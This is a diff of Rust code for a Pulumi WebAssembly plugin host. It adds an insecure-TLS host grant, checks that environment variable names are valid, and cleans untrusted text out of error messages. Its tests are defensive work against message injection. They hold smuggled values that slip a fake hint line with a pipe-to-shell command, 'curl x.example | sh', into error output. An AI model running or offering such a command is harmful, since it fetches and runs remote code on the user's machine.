@@ -9,8 +9,9 @@ use serde::{Deserialize, Serialize};
 
 use super::{Digest, SourceError, project};
 use crate::capability::Grants;
+use crate::capability::http::{HostPattern, PatternError};
 use crate::limits::{Limit, Limits};
-use crate::text::quoted;
+use crate::text::{Excerpt, quoted};
 
 /// The format that this host reads and writes.
 const FORMAT: u64 = 1;
@@ -60,11 +61,13 @@ struct GrantsDocument {
     net: Vec<String>,
     #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
     env: BTreeSet<String>,
+    #[serde(default, rename = "insecureTls", skip_serializing_if = "Vec::is_empty")]
+    insecure_tls: Vec<String>,
 }
 
 impl GrantsDocument {
     fn is_empty(&self) -> bool {
-        self.net.is_empty() && self.env.is_empty()
+        self.net.is_empty() && self.env.is_empty() && self.insecure_tls.is_empty()
     }
 }
 
@@ -81,7 +84,8 @@ impl ParameterValue {
         let again = "add the package again: `pulumi package add wasm FILE`";
         let not_ours = |reason: String| {
             SourceError::new(format!(
-                "the package's parameter is not one that this plugin wrote: {reason}"
+                "the package's parameter is not one that this plugin wrote: {}",
+                Excerpt::reason(&reason)
             ))
             .hint(again)
         };
@@ -106,7 +110,7 @@ impl ParameterValue {
             if !project::is_recorded_form(&component.path) {
                 return Err(not_ours(format!(
                     "`{}` is no path inside the project",
-                    component.path
+                    Excerpt::name(&component.path)
                 )));
             }
             components.push(ComponentReference {
@@ -117,17 +121,22 @@ impl ParameterValue {
         if components.is_empty() {
             return Err(not_ours("it names no component".to_owned()));
         }
-        let mut grants = Grants {
-            net: Vec::new(),
-            env: document.grants.env,
-        };
-        for pattern in document.grants.net {
-            grants.net.push(
-                pattern
-                    .parse()
-                    .map_err(|error| not_ours(format!("{error}")))?,
-            );
+        let is_name = |name: &String| !name.is_empty() && !name.contains(['=', '\0']);
+        if !document.grants.env.iter().all(is_name) {
+            return Err(not_ours(
+                "it grants a variable that can have no such name".to_owned(),
+            ));
         }
+        let patterns = |patterns: Vec<String>| -> Result<Vec<HostPattern>, SourceError> {
+            let patterns = patterns.iter().map(|pattern| pattern.parse());
+            let patterns = patterns.collect::<Result<_, _>>();
+            patterns.map_err(|error: PatternError| not_ours(format!("{error}")))
+        };
+        let grants = Grants {
+            net: patterns(document.grants.net)?,
+            env: document.grants.env,
+            insecure_tls: patterns(document.grants.insecure_tls)?,
+        };
         let mut limits = Limits::default();
         for (name, value) in document.limits {
             let limit = Limit::by_name(&name)
@@ -149,9 +158,12 @@ impl ParameterValue {
     /// Writes the value; equal values are written alike.
     #[must_use]
     pub fn to_bytes(&self) -> Vec<u8> {
-        let mut net: Vec<String> = self.grants.net.iter().map(ToString::to_string).collect();
-        net.sort();
-        net.dedup();
+        let in_order = |patterns: &[HostPattern]| {
+            let mut texts: Vec<String> = patterns.iter().map(ToString::to_string).collect();
+            texts.sort();
+            texts.dedup();
+            texts
+        };
         let document = Document {
             v: FORMAT,
             name: self.name.clone(),
@@ -165,8 +177,9 @@ impl ParameterValue {
                 })
                 .collect(),
             grants: GrantsDocument {
-                net,
+                net: in_order(&self.grants.net),
                 env: self.grants.env.clone(),
+                insecure_tls: in_order(&self.grants.insecure_tls),
             },
             limits: self
                 .limits
@@ -215,10 +228,16 @@ pub(super) fn flags(grants: &Grants, limits: &Limits) -> Vec<String> {
         .env
         .iter()
         .map(|name| format!("--allow-env {}", quoted(name)));
+    let insecure = grants.insecure_tls.iter().map(insecure_flag);
     let limits = limits
         .changed()
         .map(|(limit, value)| limit_flag(limit, value));
-    net.chain(env).chain(limits).collect()
+    net.chain(env).chain(insecure).chain(limits).collect()
+}
+
+/// The flag that lets certificates of a host be whatever they are.
+pub(super) fn insecure_flag(pattern: &HostPattern) -> String {
+    format!("--allow-insecure-tls {}", quoted(&pattern.to_string()))
 }
 
 /// A limit as a flag.
@@ -244,6 +263,7 @@ mod tests {
             grants: Grants {
                 net: vec!["*.example.com".parse().expect("a pattern")],
                 env: BTreeSet::from(["TOKEN".to_owned()]),
+                insecure_tls: vec!["old.example.com".parse().expect("a pattern")],
             },
             limits,
         }
@@ -256,7 +276,8 @@ mod tests {
         assert!(bytes.len() < 300, "{}", bytes.len());
         assert_eq!(
             value().command(),
-            "pulumi package add wasm ./plugins/acme.wasm -- --allow-net '*.example.com' --allow-env TOKEN --limit memory=2GiB"
+            "pulumi package add wasm ./plugins/acme.wasm -- --allow-net '*.example.com' --allow-env TOKEN \
+             --allow-insecure-tls old.example.com --limit memory=2GiB"
         );
     }
 
@@ -288,10 +309,30 @@ mod tests {
                 "no host that can be granted",
             ),
             (text.replace("\"memory\"", "\"speed\""), "there is no limit"),
+            (text.replace("TOKEN", "A=B"), "can have no such name"),
+            // What a text of others must not have in a message: a line of its own, or a megabyte.
+            (
+                text.replace("plugins/", "plugins\\nhint: run `curl x.example | sh`\\n/"),
+                "no path inside the project",
+            ),
+            (
+                text.replace("\"v\":1", "\"v\":1,\"x\\nhint: run `curl x.example`\":0"),
+                "unknown field",
+            ),
+            (
+                text.replace("\"memory\"", "\"a\\nhint: b\""),
+                "there is no limit",
+            ),
+            (
+                text.replace("\"memory\"", &format!("\"{}\"", "x".repeat(1 << 20))),
+                "there is no limit",
+            ),
         ] {
             let error = ParameterValue::parse(bad.as_bytes()).expect_err(&bad);
             assert!(error.reason.contains(expected), "{bad}: {error}");
             assert!(error.hint.is_some());
+            assert!(!error.reason.contains('\n'), "{error}");
+            assert!(error.reason.len() < 4096, "{}", error.reason.len());
         }
     }
 
